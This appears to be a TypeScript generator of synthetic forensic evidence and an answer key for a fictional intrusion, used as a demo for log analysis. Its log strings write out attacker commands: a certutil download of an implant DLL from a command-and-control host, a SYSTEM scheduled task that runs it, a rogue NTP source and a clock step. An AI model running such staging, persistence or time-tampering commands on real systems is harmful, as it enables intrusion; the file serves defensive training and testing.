/**
 * Deterministic generator of the demo case: a small but realistic intrusion at a fictional time-service operator,
 * spread over Windows (evtx_dump JSON), Zeek (TSV, one gzip-rotated), Suricata EVE, OpenSSH auth.log, auditd and
 * chrony logs. Usage: `node dist/examples/demo/generate.js OUT_DIR`. Same code, same bytes.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { Rng } from './prng.js';
import { WORLD } from './world.js';
import { localToUtcMs, syslogTime, weekday, zeekTime, isoMicros } from './timefmt.js';
import { winEvent } from './windows.js';

interface Line { ms: number; text: string }
// Stable sort: records written together (an audit event's SYSCALL, PROCTITLE, EOE) keep their order.
const byTime = (a: Line, b: Line) => a.ms - b.ms;

export interface DemoTruth {
  entryHost: string;
  entryAccount: string;
  entryFrom: string[];
  movement: string[];
  sessions: { startUtc: string; endUtc: string; from: string }[];
  beacon: { src: string; dst: string; periodSeconds: number; jitter: number; count: number };
  exfilBytes: number;
  clockStepUtc: string;
  operatorTimezone: string;
}

export function generateDemo(): { files: Record<string, string | Buffer>; truth: DemoTruth } {
  const rng = new Rng(WORLD.seed);
  const H = WORLD.hosts;
  const I = WORLD.infra;
  const auth: Record<string, Line[]> = { [H.jump.name]: [], [H.ntp.name]: [] };
  const win: Line[] = [];
  const audit: Line[] = [];
  const chronyLog: Line[] = [];
  const tracking: Line[] = [];
  const conn: Line[] = [];
  const dns: Line[] = [];
  const ssl: Line[] = [];
  const ntp: Line[] = [];
  const eve: Line[] = [];
  let rec = 1000;
  let auditSerial = 5000;
  let sshdPid = 20000;
  let uidN = 0;
  const uid = () => `C${rng.hex(4)}${(uidN++).toString(36).padStart(5, '0')}${rng.hex(8)}`.slice(0, 18);
  const sshd = (host: string, ms: number, msg: string, pid = sshdPid) => auth[host]!.push({ ms, text: `${syslogTime(ms)} ${host} sshd[${pid}]: ${msg}` });
  const connLine = (ms: number, o: string, op: number, r: string, rp: number, proto: string, service: string, dur: number, ob: number, rb: number, state: string) =>
    conn.push({ ms, text: [zeekTime(ms, rng.int(0, 999)), uid(), o, op, r, rp, proto, service, dur.toFixed(6), ob, rb, state, 'T', 'F', 0, 'ShADadFf', 8, ob + 320, 7, rb + 300, '-'].join('\t') });
  const sysmon = (ms: number, eventId: number, data: Record<string, string | number>) =>
    win.push({ ms, text: winEvent({ ms, micros: rng.int(0, 999), computer: H.win.fqdn, channel: 'Microsoft-Windows-Sysmon/Operational', eventId, recordId: rec++, data }) });
  const security = (ms: number, eventId: number, data: Record<string, string | number>) =>
    win.push({ ms, text: winEvent({ ms, micros: rng.int(0, 999), computer: H.win.fqdn, channel: 'Security', eventId, recordId: rec++, data }) });

  const from = Date.parse(WORLD.span.from);
  const to = Date.parse(WORLD.span.to);
  const DAY = 86400000;

  // --- Benign background: staff logins at Singapore office hours, NTP polling, update checks. ---
  for (let day = from; day < to; day += DAY) {
    const d = new Date(day);
    if ([0, 6].includes(weekday(day))) continue;
    for (const user of ['lwong', 'aramesh', 'kchen']) {
      const t = localToUtcMs(WORLD.victim.timezone, d.getUTCFullYear(), d.getUTCMonth() + 1, d.getUTCDate(), rng.int(8, 10), rng.int(0, 59));
      const pid = sshdPid++;
      const src = `10.10.4.${rng.int(20, 60)}`;
      sshd(H.jump.name, t, `Accepted publickey for ${user} from ${src} port ${rng.int(40000, 60999)} ssh2: ED25519 SHA256:${rng.hex(10)}`, pid);
      sshd(H.jump.name, t + 10, `pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + user.length}) by (uid=0)`, pid);
      sshd(H.jump.name, t + rng.int(2, 7) * 3600000, `pam_unix(sshd:session): session closed for user ${user}`, pid);
    }
  }
  for (const server of WORLD.benign.ntpServers) {
    for (let t = from + rng.int(0, 1000) * 1000; t < to; t += WORLD.benign.ntpPollSeconds * 1000) {
      connLine(t, H.ntp.ip, 123, server, 123, 'udp', 'ntp', 0.02, 48, 48, 'SF');
    }
  }
  for (let t = from + 3600000; t < to; t += 4 * 3600000) {
    const ms = t + rng.int(0, 120) * 1000;
    connLine(ms, H.win.ip, 49000 + rng.int(0, 9000), WORLD.benign.updateHost, 443, 'tcp', 'ssl', 1.2, 2100, 5400, 'SF');
    dns.push({ ms: ms - 50, text: [zeekTime(ms - 50), uid(), H.win.ip, 53000 + rng.int(0, 999), '10.20.0.2', 53, 'udp', rng.int(1, 65000), '0.01', 'settings-win.data.microsoft.com', 1, 'C_INTERNET', 1, 'A', 0, 'NOERROR', 'F', 'F', 'T', 'T', 0, WORLD.benign.updateHost, '60.000000', 'F'].join('\t') });
  }

  // --- The intrusion. Operator sessions at Berlin office hours on weekdays (crossing the 30 March DST change). ---
  const sessions: DemoTruth['sessions'] = [];
  let exfilBytes = 0;
  let firstWinSession = true;
  let clockStep = 0;
  const commands = [
    ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
    ['C:\\Windows\\System32\\net.exe', 'net group "domain admins" /domain'],
    ['C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:meridian.local'],
    ['C:\\Windows\\System32\\tasklist.exe', 'tasklist /v'],
    ['C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all'],
  ] as const;
  let sessionNo = 0;
  for (let day = from + 2 * DAY; day < to; day += DAY) {
    const d = new Date(day);
    const holiday = (WORLD.operators.holidays as readonly string[]).includes(d.toISOString().slice(0, 10));
    if ([0, 6].includes(weekday(day)) || holiday || rng.next() < 0.25) continue;
    const start = localToUtcMs(WORLD.operators.timezone, d.getUTCFullYear(), d.getUTCMonth() + 1, d.getUTCDate(), rng.int(9, 14), rng.int(0, 59), rng.int(0, 59));
    const dur = rng.int(35, 150) * 60000;
    const end = start + dur;
    const relay = I.entry[sessionNo % I.entry.length]!;
    sessionNo++;
    sessions.push({ startUtc: new Date(start).toISOString(), endUtc: new Date(end).toISOString(), from: relay });
    const pid = sshdPid++;
    if (sessionNo === 1) {
      for (let k = 0; k < 3; k++) sshd(H.jump.name, start - (5 - k) * 7000, `Failed password for ${WORLD.stolenAccount} from ${relay} port ${rng.int(40000, 60999)} ssh2`, pid - 1 - k);
    }
    sshd(H.jump.name, start, `Accepted password for ${WORLD.stolenAccount} from ${relay} port ${rng.int(40000, 60999)} ssh2`, pid);
    sshd(H.jump.name, start + 20, `pam_unix(sshd:session): session opened for user ${WORLD.stolenAccount}(uid=1005) by (uid=0)`, pid);
    sshd(H.jump.name, end, `Disconnected from user ${WORLD.stolenAccount} ${relay} port 22`, pid);
    // RDP to the Windows console from the jump host.
    const rdp = start + rng.int(2, 6) * 60000;
    security(rdp, 4624, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WIN-OPS01$', SubjectDomainName: 'MERIDIAN', TargetUserSid: 'S-1-5-21-1111-2222-3333-1107', TargetUserName: WORLD.windowsAccount, TargetDomainName: 'MERIDIAN', LogonType: 10, LogonProcessName: 'User32', AuthenticationPackageName: 'Negotiate', WorkstationName: H.jump.name.toUpperCase(), IpAddress: H.jump.ip, IpPort: rng.int(50000, 60000), ProcessName: 'C:\\Windows\\System32\\svchost.exe' });
    connLine(rdp - 500, H.jump.ip, rng.int(40000, 60999), H.win.ip, 3389, 'tcp', 'rdp', dur / 1000 - 200, 2_400_000, 18_000_000, 'SF');
    let t = rdp + 60000;
    const n = firstWinSession ? commands.length : rng.int(1, 3);
    for (let k = 0; k < n; k++) {
      const [image, cmd] = firstWinSession ? commands[k]! : rng.pick(commands);
      sysmon(t, 1, { RuleName: '-', UtcTime: new Date(t).toISOString().replace('T', ' ').slice(0, 23), ProcessGuid: `{0197231E-${rng.hex(4)}-${rng.hex(4)}-0000-${rng.hex(12)}}`, ProcessId: rng.int(1000, 9000), Image: image, CommandLine: cmd, CurrentDirectory: 'C:\\Users\\svc_ops\\', User: `MERIDIAN\\${WORLD.windowsAccount}`, LogonId: '0x3e7', IntegrityLevel: 'High', Hashes: `SHA256=${rng.hex(64).toUpperCase()}`, ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe', ParentUser: `MERIDIAN\\${WORLD.windowsAccount}` });
      t += rng.int(20, 200) * 1000;
    }
    if (firstWinSession) {
      firstWinSession = false;
      // Stage the implant, persist it, start it.
      const dl = `certutil.exe -urlcache -split -f https://${I.c2.sni}/u/tzsync.dat C:\\ProgramData\\tzsync.dll`;
      sysmon(t, 1, { RuleName: '-', UtcTime: new Date(t).toISOString().replace('T', ' ').slice(0, 23), ProcessGuid: `{0197231E-${rng.hex(4)}-${rng.hex(4)}-0000-${rng.hex(12)}}`, ProcessId: 4412, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: dl, CurrentDirectory: 'C:\\Windows\\system32\\', User: `MERIDIAN\\${WORLD.windowsAccount}`, IntegrityLevel: 'High', Hashes: 'SHA256=' + rng.hex(64).toUpperCase(), ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe' });
      sysmon(t + 4000, 11, { RuleName: '-', UtcTime: new Date(t + 4000).toISOString().replace('T', ' ').slice(0, 23), ProcessGuid: '{0197231E-0000-0000-0000-000000004412}', ProcessId: 4412, Image: 'C:\\Windows\\System32\\certutil.exe', TargetFilename: 'C:\\ProgramData\\tzsync.dll', CreationUtcTime: new Date(t + 4000).toISOString().replace('T', ' ').slice(0, 23), User: `MERIDIAN\\${WORLD.windowsAccount}` });
      const task = `schtasks /create /tn "Microsoft\\Windows\\Time Synchronization\\TzSync" /tr "rundll32.exe C:\\ProgramData\\tzsync.dll,Start" /sc onstart /ru SYSTEM /f`;
      sysmon(t + 30000, 1, { RuleName: '-', UtcTime: new Date(t + 30000).toISOString().replace('T', ' ').slice(0, 23), ProcessGuid: `{0197231E-${rng.hex(4)}-${rng.hex(4)}-0000-${rng.hex(12)}}`, ProcessId: 4520, Image: 'C:\\Windows\\System32\\schtasks.exe', CommandLine: task, CurrentDirectory: 'C:\\Windows\\system32\\', User: `MERIDIAN\\${WORLD.windowsAccount}`, IntegrityLevel: 'High', Hashes: 'SHA256=' + rng.hex(64).toUpperCase(), ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe' });
      security(t + 30100, 4688, { SubjectUserSid: 'S-1-5-21-1111-2222-3333-1107', SubjectUserName: WORLD.windowsAccount, SubjectDomainName: 'MERIDIAN', SubjectLogonId: '0x5a1f2', NewProcessId: '0x11a8', NewProcessName: 'C:\\Windows\\System32\\schtasks.exe', TokenElevationType: '%%1937', ProcessId: '0x1f4', CommandLine: task, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', MandatoryLabel: 'S-1-16-12288' });
      sysmon(t + 60000, 1, { RuleName: '-', UtcTime: new Date(t + 60000).toISOString().replace('T', ' ').slice(0, 23), ProcessGuid: '{0197231E-0000-0000-0000-000000004600}', ProcessId: 4600, Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: 'rundll32.exe C:\\ProgramData\\tzsync.dll,Start', CurrentDirectory: 'C:\\Windows\\system32\\', User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', Hashes: 'SHA256=' + rng.hex(64).toUpperCase(), ParentImage: 'C:\\Windows\\System32\\svchost.exe', ParentCommandLine: 'svchost.exe -k netsvcs -p -s Schedule' });
      sysmon(t + 62000, 3, { RuleName: '-', UtcTime: new Date(t + 62000).toISOString().replace('T', ' ').slice(0, 23), ProcessGuid: '{0197231E-0000-0000-0000-000000004600}', ProcessId: 4600, Image: 'C:\\Windows\\System32\\rundll32.exe', User: 'NT AUTHORITY\\SYSTEM', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: H.win.ip, SourceHostname: H.win.fqdn, SourcePort: 50123, DestinationIsIpv6: 'false', DestinationIp: I.c2.ip, DestinationHostname: I.c2.sni, DestinationPort: I.c2.port, DestinationPortName: 'https' });
    }
    // Exfiltration on some sessions: archives to the drop server.
    if (sessionNo % 4 === 0) {
      const bytes = rng.int(150, 600) * 1_048_576;
      exfilBytes += bytes;
      const et = end - rng.int(10, 25) * 60000;
      connLine(et, H.win.ip, rng.int(50000, 60000), I.exfil.ip, I.exfil.port, 'tcp', 'ssl', rng.int(300, 900), bytes, rng.int(20000, 90000), 'SF');
      eve.push({ ms: et, text: JSON.stringify({ timestamp: isoMicros(et).replace('Z', '+0000'), flow_id: 1_200_000_000_000_000 + sessionNo, event_type: 'flow', src_ip: H.win.ip, src_port: 50555, dest_ip: I.exfil.ip, dest_port: I.exfil.port, proto: 'TCP', app_proto: 'tls', flow: { pkts_toserver: Math.round(bytes / 1400), pkts_toclient: 900, bytes_toserver: bytes, bytes_toclient: 64000, start: isoMicros(et).replace('Z', '+0000'), end: isoMicros(et + 600000).replace('Z', '+0000'), age: 600, state: 'closed', reason: 'timeout', alerted: false } }) });
    }
    // Time infrastructure: SSH to the NTP management server, rogue source added, clock stepped (once).
    if (sessionNo === 6) {
      const nt = start + 30 * 60000;
      const npid = sshdPid++;
      sshd(H.ntp.name, nt, `Accepted publickey for ${WORLD.timeAdmin} from ${H.jump.ip} port ${rng.int(40000, 60999)} ssh2: RSA SHA256:${rng.hex(12)}`, npid);
      sshd(H.ntp.name, nt + 15, `pam_unix(sshd:session): session opened for user ${WORLD.timeAdmin}(uid=1010) by (uid=0)`, npid);
      auth[H.ntp.name]!.push({ ms: nt + 60000, text: `${syslogTime(nt + 60000)} ${H.ntp.name} sudo:  ${WORLD.timeAdmin} : TTY=pts/0 ; PWD=/home/${WORLD.timeAdmin} ; USER=root ; COMMAND=/usr/bin/chronyc add server ${I.rogueNtp} iburst prefer` });
      chronyLog.push({ ms: nt + 75000, text: `${syslogTime(nt + 75000)} ${H.ntp.name} chronyd[812]: Added source ${I.rogueNtp}` });
      chronyLog.push({ ms: nt + 140000, text: `${syslogTime(nt + 140000)} ${H.ntp.name} chronyd[812]: Selected source ${I.rogueNtp}` });
      clockStep = nt + 300000;
      const sec = (clockStep / 1000).toFixed(3);
      const ser = auditSerial++;
      audit.push({ ms: clockStep, text: `type=SYSCALL msg=audit(${sec}:${ser}): arch=c000003e syscall=227 success=yes exit=0 a0=0 a1=7ffd3b2c1e40 a2=0 a3=0 items=0 ppid=20411 pid=20433 auid=1010 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="python3" exe="/usr/bin/python3.11" subj=unconfined key="time-change"` });
      audit.push({ ms: clockStep, text: `type=PROCTITLE msg=audit(${sec}:${ser}): proctitle=${Buffer.from('python3\0/tmp/.ts.py\0--step\0-2.5').toString('hex').toUpperCase()}` });
      audit.push({ ms: clockStep, text: `type=EOE msg=audit(${sec}:${ser}): ` });
      chronyLog.push({ ms: clockStep + 2000, text: `${syslogTime(clockStep + 2000)} ${H.ntp.name} chronyd[812]: Backward time jump detected!` });
      chronyLog.push({ ms: clockStep + 64000, text: `${syslogTime(clockStep + 64000)} ${H.ntp.name} chronyd[812]: System clock wrong by 2.500127 seconds` });
      // Reconnaissance of the time service from outside: NTP mode 6 (control) queries.
      for (let k = 0; k < 4; k++) {
        const qt = start - 86400000 + k * 3000;
        ntp.push({ ms: qt, text: [zeekTime(qt), uid(), I.entry[0], 40000 + k, H.ntp.ip, 123, 2, 6, 0, '0.000000', '0.000000', '-', '-', '-', '-', '-', 0, '-'].join('\t') });
      }
    }
  }
  // Audit trail of the legitimate daemon adjusting the clock (must not be flagged).
  for (let t = from + 3600000; t < to; t += 6 * 3600000) {
    const sec = (t / 1000).toFixed(3);
    const ser = auditSerial++;
    audit.push({ ms: t, text: `type=SYSCALL msg=audit(${sec}:${ser}): arch=c000003e syscall=159 success=yes exit=5 a0=7ffc1d2e3f00 a1=0 a2=0 a3=0 items=0 ppid=1 pid=812 auid=4294967295 uid=998 gid=998 euid=998 suid=998 fsuid=998 egid=998 sgid=998 fsgid=998 tty=(none) ses=4294967295 comm="chronyd" exe="/usr/sbin/chronyd" subj=unconfined key="time-change"` });
    audit.push({ ms: t, text: `type=EOE msg=audit(${sec}:${ser}): ` });
  }
  // Chrony tracking log: steady within microseconds, then the step.
  for (let t = from; t < to; t += 3600000) {
    const off = t >= clockStep && t < clockStep + 7200000 ? -2.5 + rng.next() * 0.001 : (rng.next() - 0.5) * 2e-5;
    const d = new Date(t);
    const src = t >= clockStep ? I.rogueNtp : WORLD.benign.ntpServers[0];
    tracking.push({ ms: t, text: `${d.toISOString().slice(0, 10)} ${d.toISOString().slice(11, 19)} ${src.padEnd(15)}  2    -1.234   0.012 ${off.toExponential(3)} N  1  1.2e-05 -2.1e-07  2.3e-03  1.1e-04  5.2e-04` });
  }

  // C2 beacon around the clock from the implant, with TLS to the C2 name and Suricata's view of a few sessions.
  const beaconStart = Date.parse(WORLD.beacon.from);
  let beacons = 0;
  for (let t = beaconStart; t < to; t += rng.jitter(WORLD.beacon.periodSeconds, WORLD.beacon.jitter) * 1000) {
    const ms = Math.round(t);
    const ob = 1200 + rng.int(0, 60);
    connLine(ms, H.win.ip, rng.int(49152, 65535), I.c2.ip, I.c2.port, 'tcp', 'ssl', 0.8 + rng.next() * 0.3, ob, 3400 + rng.int(0, 80), 'SF');
    if (beacons % 48 === 0) {
      ssl.push({ ms, text: [zeekTime(ms, 500), uid(), H.win.ip, 50000 + (beacons % 9000), I.c2.ip, I.c2.port, 'TLSv12', 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384', 'secp256r1', I.c2.sni, 'F', '-', '-', 'T', 'Fi', I.c2.ja3, '-'].join('\t') });
      eve.push({ ms, text: JSON.stringify({ timestamp: isoMicros(ms).replace('Z', '+0000'), flow_id: 1_100_000_000_000_000 + beacons, event_type: 'tls', src_ip: H.win.ip, src_port: 50000 + (beacons % 9000), dest_ip: I.c2.ip, dest_port: I.c2.port, proto: 'TCP', tls: { subject: `CN=${I.c2.sni}`, issuerdn: `CN=${I.c2.sni}`, serial: '4F:2A:11', fingerprint: I.c2.certSha1.match(/../g)!.join(':'), sni: I.c2.sni, version: 'TLS 1.2', notbefore: '2025-02-20T00:00:00', notafter: '2026-02-20T00:00:00', ja3: { hash: I.c2.ja3 } } }) });
    }
    if (beacons === 0) {
      eve.push({ ms, text: JSON.stringify({ timestamp: isoMicros(ms).replace('Z', '+0000'), flow_id: 1_100_000_000_000_000, event_type: 'alert', src_ip: H.win.ip, src_port: 50000, dest_ip: I.c2.ip, dest_port: I.c2.port, proto: 'TCP', alert: { action: 'allowed', gid: 1, signature_id: 9000101, rev: 1, signature: 'VERITRACE DEMO self-signed certificate for newly seen TLS server name', category: 'Potentially Bad Traffic', severity: 2 } }) });
      dns.push({ ms: ms - 80, text: [zeekTime(ms - 80), uid(), H.win.ip, 53111, '10.20.0.2', 53, 'udp', 4242, '0.03', I.c2.sni, 1, 'C_INTERNET', 1, 'A', 0, 'NOERROR', 'F', 'F', 'T', 'T', 0, I.c2.ip, '300.000000', 'F'].join('\t') });
    }
    beacons++;
  }

  const zeekHeader = (path: string, fields: string[], types: string[]) =>
    ['#separator \\x09', '#set_separator\t,', '#empty_field\t(empty)', '#unset_field\t-', `#path\t${path}`, '#open\t2025-03-10-00-00-00', `#fields\t${fields.join('\t')}`, `#types\t${types.join('\t')}`].join('\n') + '\n';
  const zeek = (path: string, fields: string[], types: string[], lines: Line[]) =>
    zeekHeader(path, fields, types) + lines.sort(byTime).map((l) => l.text).join('\n') + '\n#close\t2025-04-19-00-00-00\n';
  const text = (lines: Line[]) => lines.sort(byTime).map((l) => l.text).join('\n') + '\n';

  const files: Record<string, string | Buffer> = {
    'windows/WIN-OPS01-events.json': text(win),
    'zeek/conn.log.gz': gzipSync(Buffer.from(zeek('conn',
      ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'service', 'duration', 'orig_bytes', 'resp_bytes', 'conn_state', 'local_orig', 'local_resp', 'missed_bytes', 'history', 'orig_pkts', 'orig_ip_bytes', 'resp_pkts', 'resp_ip_bytes', 'tunnel_parents'],
      ['time', 'string', 'addr', 'port', 'addr', 'port', 'enum', 'string', 'interval', 'count', 'count', 'string', 'bool', 'bool', 'count', 'string', 'count', 'count', 'count', 'count', 'set[string]'], conn))),
    'zeek/dns.log': zeek('dns',
      ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'trans_id', 'rtt', 'query', 'qclass', 'qclass_name', 'qtype', 'qtype_name', 'rcode', 'rcode_name', 'AA', 'TC', 'RD', 'RA', 'Z', 'answers', 'TTLs', 'rejected'],
      ['time', 'string', 'addr', 'port', 'addr', 'port', 'enum', 'count', 'interval', 'string', 'count', 'string', 'count', 'string', 'count', 'string', 'bool', 'bool', 'bool', 'bool', 'count', 'vector[string]', 'vector[interval]', 'bool'], dns),
    'zeek/ssl.log': zeek('ssl',
      ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'version', 'cipher', 'curve', 'server_name', 'resumed', 'last_alert', 'next_protocol', 'established', 'ssl_history', 'ja3', 'cert_chain_fps'],
      ['time', 'string', 'addr', 'port', 'addr', 'port', 'string', 'string', 'string', 'string', 'bool', 'string', 'string', 'bool', 'string', 'string', 'vector[string]'], ssl),
    'zeek/ntp.log': zeek('ntp',
      ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'version', 'mode', 'stratum', 'poll', 'precision', 'root_delay', 'root_disp', 'ref_id', 'ref_time', 'org_time', 'num_exts', 'xmt_time'],
      ['time', 'string', 'addr', 'port', 'addr', 'port', 'count', 'count', 'count', 'interval', 'interval', 'interval', 'interval', 'string', 'time', 'time', 'count', 'time'], ntp),
    'suricata/eve.json': text(eve),
    'linux/jump01/auth.log': text(auth[H.jump.name]!),
    'linux/ntp-mgmt01/auth.log': text(auth[H.ntp.name]!),
    'linux/ntp-mgmt01/syslog': text(chronyLog),
    'linux/ntp-mgmt01/audit.log': text(audit),
    'linux/ntp-mgmt01/chrony/tracking.log': text(tracking),
  };
  const truth: DemoTruth = {
    entryHost: H.jump.name,
    entryAccount: WORLD.stolenAccount,
    entryFrom: [...I.entry],
    movement: [H.jump.name, H.win.name, H.ntp.name],
    sessions,
    beacon: { src: H.win.ip, dst: I.c2.ip, periodSeconds: WORLD.beacon.periodSeconds, jitter: WORLD.beacon.jitter, count: beacons },
    exfilBytes,
    clockStepUtc: new Date(clockStep).toISOString(),
    operatorTimezone: WORLD.operators.timezone,
  };
  return { files, truth };
}

async function main(out: string): Promise<void> {
  const { files, truth } = generateDemo();
  for (const [rel, body] of Object.entries(files)) {
    const p = join(out, 'logs', rel);
    await mkdir(join(p, '..'), { recursive: true });
    await writeFile(p, body);
  }
  await writeFile(join(out, 'truth.json'), JSON.stringify(truth, null, 2) + '\n');
  await (await import('./samples/index.js')).writeSamples(join(out, 'samples'));
  process.stdout.write(`demo evidence written to ${join(out, 'logs')} (${Object.keys(files).length} files), ground truth in ${join(out, 'truth.json')}\n`);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === resolve(process.argv[1])) {
  await main(process.argv[2] ?? 'examples/demo/out');
}
